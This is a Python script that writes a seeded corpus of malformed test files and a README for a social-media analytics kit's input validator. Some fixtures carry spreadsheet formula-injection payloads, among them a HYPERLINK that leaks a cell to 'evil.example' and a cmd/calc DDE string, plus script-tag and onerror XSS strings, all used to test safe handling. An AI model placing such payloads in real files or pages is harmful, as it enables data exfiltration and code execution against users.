"""Write the hostile-input corpus: malformed files of the four input kinds (initiatives,
assessment / readiness, audience, posts), each with one thing wrong that analysts meet in files
they did not clean. Seeded: re-running gives identical bytes. Also writes README.md (the list of
files, what is wrong with each and the expected behaviour); tests/test_bad_inputs.py has one test
per file.

Run: python tests/data/bad/make_bad_inputs.py
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import numpy as np

HERE = Path(__file__).resolve().parent
SEED = 8


@dataclass(frozen=True)
class BadFile:
    name: str
    kind: str  # the --kind to validate it as
    wrong: str  # what is wrong with it
    expected: str  # what the kit does with it
    data: bytes


def _csv(rows: list[list[str]], sep: str = ",", *, encoding: str = "utf-8", newline: str = "\n",
         bom: bool = False) -> bytes:
    text = newline.join(sep.join(r) for r in rows) + newline
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)


INITIATIVES_HEADER = ["initiative", "functions", "goal", "owner", "kpi", "audience", "norm", "status"]


def _audience(rng: np.random.Generator, n: int, *, constant: bool = False, blank: str | None = None,
              likert_bad: dict[int, str] | None = None, duplicate: dict[int, int] | None = None) -> list[list[str]]:
    """A small audience survey: respondent_id, five psy_ Likert items, two habit_ counts, age, region."""
    items = ["psy_adventure", "psy_price_sensitive", "psy_eco_conscious", "psy_brand_loyal", "psy_social_sharing"]
    header = ["respondent_id", *items, "habit_posts_per_week", "habit_reviews_per_month", "age", "region"]
    rows = [header]
    group = rng.integers(0, 2, size=n)
    for r in range(n):
        rid = f"R{r + 1:04d}"
        if duplicate and r in duplicate:
            rid = f"R{duplicate[r] + 1:04d}"
        if constant:
            likert = ["3"] * len(items)
        else:
            centre = np.array([4, 2, 4, 3, 2]) if group[r] else np.array([2, 4, 2, 3, 4])
            likert = [str(int(v)) for v in np.clip(np.rint(centre + rng.normal(0, 0.7, len(items))), 1, 5)]
        habits = ["1", "0"] if constant else [f"{rng.gamma(2, 1.5):.1f}", f"{rng.gamma(1, 1):.1f}"]
        row = [rid, *likert, *habits, "40" if constant else str(int(rng.integers(18, 80))),
               "north" if constant else str(rng.choice(["north", "south", "west"]))]
        if blank is not None:
            row[header.index(blank)] = ""
        for col, value in (likert_bad or {}).items():
            if r == col:
                row[1] = value
        rows.append(row)
    return rows


def corpus(rng: np.random.Generator) -> list[BadFile]:
    files: list[BadFile] = []

    def add(name, kind, wrong, expected, data):
        files.append(BadFile(name, kind, wrong, expected, data))

    # ------------------------------------------------------------------ initiatives
    add("initiatives_empty.csv", "initiatives", "empty file (0 bytes)",
        "InputFileError: the file is empty; fix: export the data again", b"")
    add("initiatives_header_only.csv", "initiatives", "a header row and no data rows",
        "DataValidationError: has a header but no data rows", _csv([INITIATIVES_HEADER]))
    add("initiatives_latin1.csv", "initiatives", "saved as Windows-1252 / Latin-1, not UTF-8 (accented names)",
        "graceful: decoded as Windows-1252; names keep their accents (Café-Gespräche, Développement durable)",
        _csv([INITIATIVES_HEADER,
              ["Café-Gespräche auf LinkedIn", "marketing; sales", "market a new product or initiative", "Zoë Müller",
               "leads", "customers", "community", "active"],
              ["Développement durable", "pr", "", "Hélène", "reach", "customers", "content", "active"]],
             encoding="cp1252"))
    add("initiatives_duplicate_ids.csv", "initiatives", "the same initiative listed twice (lines 2 and 4)",
        "DataValidationError: column 'initiative': values must be unique, lines 2 and 4",
        _csv([INITIATIVES_HEADER,
              ["Customer forum", "customer_service; product", "", "Support lead", "tickets deflected", "customers",
               "community", "active"],
              ["Blog", "marketing", "", "Content lead", "leads", "customers", "content", "active"],
              ["Customer forum", "marketing", "", "Support lead", "leads", "customers", "community", "active"]]))
    add("initiatives_formula_strings.csv", "initiatives",
        "spreadsheet formulas as names and KPIs (=HYPERLINK(...), +cmd, @SUM, -2+3, a leading tab)",
        "graceful: kept as text (analyses run); neutralised with a leading quote when written as CSV",
        _csv([INITIATIVES_HEADER,
              ['"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"', "marketing; sales", "", "Ops", "leads",
               "customers", "content", "active"],
              ["\"+cmd|' /C calc'!A0\"", "pr", "", "=1+1", "@SUM(A1:A9)", "customers", "content", "active"],
              ["@SUM(A1:A9)", "hr", "", "HR", "hires", "employees", "content", "active"],
              ["-2+3", "events", "", "Events", "sign-ups", "customers", "content", "active"],
              ["\"\t=cmd\"", "leadership", "", "CEO", "pipeline", "partners", "content", "active"]]))
    add("initiatives_script_names.csv", "initiatives",
        "HTML and script in names: <script>alert(1)</script> as an initiative, an <img onerror> owner",
        "graceful: kept as text; the Venn analysis runs; HTML reports show the names escaped, never as tags",
        _csv([INITIATIVES_HEADER,
              ["<script>alert(1)</script>", "marketing; sales; pr", "market a new product or initiative",
               "<img src=x onerror=alert(2)>", "leads", "customers", "community", "active"],
              ["<b>Bold</b> & co", "hr", "", "People", "hires", "employees", "content", "active"]]))

    # ------------------------------------------------------------------ assessment / readiness
    q = ["F1", "F2", "F3", "R1", "R2", "R3", "R4", "T1", "T2", "T3", "C1", "C2", "C3"]
    yes_no = {"F1", "F3", "R3", "R4", "T2", "C2"}
    rows = [["function", "question", "answer"]]
    for fn in ("marketing", "sales"):
        for qid in q:
            rows.append([fn, qid, str(int(rng.integers(0, 2))) if qid in yes_no else str(int(rng.integers(1, 6)))])
    rows[3][2] = "7"  # marketing F3 (yes/no), line 4
    rows[5][2] = "-1"  # marketing R2 (1-5), line 6
    rows[16][2] = "2"  # sales F3 (yes/no), line 17
    add("assessment_answers_out_of_range.csv", "assessment",
        "answers outside the scale: 7 and 2 on yes/no questions, -1 on a 1-5 question",
        "DataValidationError: 'answer' values must be <= 5 / >= 0 (lines 4, 6); depth.check_assessment names "
        "each question, function, line and allowed scale", _csv(rows))
    add("readiness_text_answers.csv", "readiness", "text where numbers are expected ('yes', '4 (agree)')",
        "DataValidationError: column 'answer': expected a number, lines 2 and 4",
        _csv([["question", "answer"], ["BM1", "yes"], ["BM2", "3"], ["BM3", "4 (agree)"], ["BM4", "1"]]))
    add("readiness_pipe_delimited.csv", "readiness", "pipe-delimited (question|answer)",
        "graceful: the pipe delimiter is detected", _csv([["question", "answer"], ["BM1", "4"], ["BM2", "3"]], "|"))

    # ------------------------------------------------------------------ audience
    add("audience_utf8_bom.csv", "audience", "UTF-8 with a byte-order mark and CRLF line ends (Excel's 'CSV UTF-8')",
        "graceful: the BOM is dropped, the first column is respondent_id",
        _csv(_audience(rng, 6), newline="\r\n", bom=True))
    add("audience_duplicate_ids.csv", "audience", "respondent R0002 appears twice (lines 3 and 6)",
        "DataValidationError: column 'respondent_id': values must be unique, lines 3 and 6",
        _csv(_audience(rng, 6, duplicate={4: 1})))
    add("audience_likert_out_of_range.csv", "audience", "Likert answers 0 and 7 on a 1-5 item (lines 3 and 5)",
        "DataValidationError: column 'psy_adventure': values must be >= 1 (line 3) and <= 5 (line 5)",
        _csv(_audience(rng, 6, likert_bad={1: "0", 3: "7"})))
    add("audience_all_missing_column.csv", "audience", "the psy_eco_conscious column is blank for everyone",
        "graceful: valid; the segmentation drops the column and says so in its notes",
        _csv(_audience(rng, 120, blank="psy_eco_conscious")))
    add("audience_single_respondent.csv", "audience", "one respondent only",
        "valid file; Segmenter.fit raises DataValidationError (nothing varies, no segments possible)",
        _csv(_audience(rng, 1)))
    add("audience_constant_columns.csv", "audience", "every answer is the same for all 50 respondents",
        "valid file; Segmenter.fit raises DataValidationError naming the constant columns",
        _csv(_audience(rng, 50, constant=True)))

    # ------------------------------------------------------------------ posts
    posts_header = ["post_id", "date", "channel", "reach", "likes", "comments", "shares", "sentiment", "leads"]

    def post(i, date="2026-03-01", channel="instagram", reach=None, likes=None, sentiment="0.4", leads=None):
        return [f"P{i:03d}", date, channel, str(reach if reach is not None else int(rng.integers(500, 5000))),
                str(likes if likes is not None else int(rng.integers(5, 200))), str(int(rng.integers(0, 20))),
                str(int(rng.integers(0, 10))), sentiment, str(leads if leads is not None else int(rng.integers(0, 5)))]

    add("posts_pipe_delimited.csv", "posts", "pipe-delimited export",
        "graceful: the pipe delimiter is detected", _csv([posts_header] + [post(i) for i in range(1, 4)], "|"))
    add("posts_decimal_comma_in_comma_file.csv", "posts",
        "comma-delimited, but sentiment written with a decimal comma (0,5): rows have one field too many",
        "InputFileError naming lines 2-4 and the fix (';' delimiter or decimal points); never a silent column shift",
        _csv([posts_header] + [post(i, sentiment=s) for i, s in ((1, "0,5"), (2, "0,25"), (3, "-0,1"))]))
    add("posts_trailing_delimiter.csv", "posts", "every data row ends with a delimiter the header lacks",
        "graceful: the empty trailing field is dropped, columns stay aligned",
        _csv([posts_header] + [post(i) + [""] for i in range(1, 4)]))
    add("posts_text_in_numeric.csv", "posts", "text in numeric columns ('1.2k', 'about 300', '12 %')",
        "DataValidationError: columns 'reach' and 'likes': expected a number, with lines and values",
        _csv([posts_header, post(1, reach="1.2k"), post(2, likes="about 300"), post(3, reach="12 %"), post(4)]))
    rows = [posts_header] + [post(i, date=f"2026-03-{i:02d}", channel=["instagram", "facebook"][i % 2])
                             for i in range(1, 13)]
    for r in rows[1:]:
        r[posts_header.index("likes")] = ""
        r[posts_header.index("leads")] = ""
    add("posts_all_missing_column.csv", "posts", "likes and leads columns present but blank on every row",
        "graceful: valid; applause rate blank with a note, likes/leads listed as empty measurement gaps, "
        "engagement from comments + shares", _csv(rows))
    add("posts_duplicate_post_ids.csv", "posts", "post P002 listed twice (an export appended twice)",
        "DataValidationError: column 'post_id': values must be unique, lines 3 and 5",
        _csv([posts_header, post(1), post(2), post(3), post(2)]))
    add("posts_mixed_date_formats.csv", "posts",
        "dates in several formats: ISO, ISO with time, 31/03/2026, 'Mar 31, 2026', '1 April 2026'",
        "graceful: every date is read (numeric dates day first, as the file shows)",
        _csv([posts_header, post(1, date="2026-03-01"), post(2, date="2026-03-02 14:30"),
              post(3, date="31/03/2026"), post(4, date='"Mar 31, 2026"'), post(5, date="1 April 2026")]))
    add("posts_ambiguous_date_orders.csv", "posts",
        "numeric dates in both orders: 31/03/2026 (day first) and 03/30/2026 (month first)",
        "DataValidationError: column 'date': dates in both day/month and month/day order, lines 2 and 3",
        _csv([posts_header, post(1, date="31/03/2026"), post(2, date="03/30/2026"), post(3, date="04/03/2026")]))
    add("posts_huge_numbers.csv", "posts", "huge numbers (1e400, 99999999999999999999) in metric columns",
        "DataValidationError: 'number too large to be real' for reach and likes, with lines",
        _csv([posts_header, post(1, reach="1e400"), post(2, likes="99999999999999999999"), post(3)]))
    add("posts_script_channel.csv", "posts", "HTML in channel names (<img src=x onerror=alert(1)>)",
        "graceful: kept as text; rates per channel computed; tables in HTML reports escape it",
        _csv([posts_header, post(1, channel="<img src=x onerror=alert(1)>"), post(2, channel="<script>x</script>"),
              post(3)]))
    add("posts_not_really.xlsx", "posts", "a CSV text file saved with an .xlsx name",
        "InputFileError: is a text file, not an Excel workbook; fix: rename it to .csv",
        _csv([posts_header, post(1)]))
    return files


def write_readme(files: list[BadFile]) -> str:
    lines = ["# Hostile inputs", "",
             "Malformed files of the four input kinds, one problem each, as analysts receive them. Every file",
             "has a test in `tests/test_bad_inputs.py` (as a Python call and through",
             "`python -m socialkit.cli validate FILE --kind KIND`): either a clear error naming the file, the",
             "column, the lines and the fix, or a graceful handling documented here and in `docs/inputs.md`.",
             "", f"Generated by `make_bad_inputs.py` (seed {SEED}); do not edit the files by hand.", "",
             "| file | kind | what is wrong | expected behaviour |", "|---|---|---|---|"]
    for f in files:
        cells = [f"`{f.name}`", f.kind, f.wrong, f.expected]
        lines.append("| " + " | ".join(c.replace("|", "\\|").replace("<", "&lt;").replace(">", "&gt;")
                                       for c in cells) + " |")
    return "\n".join(lines) + "\n"


def main() -> None:
    files = corpus(np.random.default_rng(SEED))
    for f in files:
        (HERE / f.name).write_bytes(f.data)
    (HERE / "README.md").write_text(write_readme(files), encoding="utf-8")
    print(f"wrote {len(files)} files and README.md to {HERE.name}/")


if __name__ == "__main__":
    main()
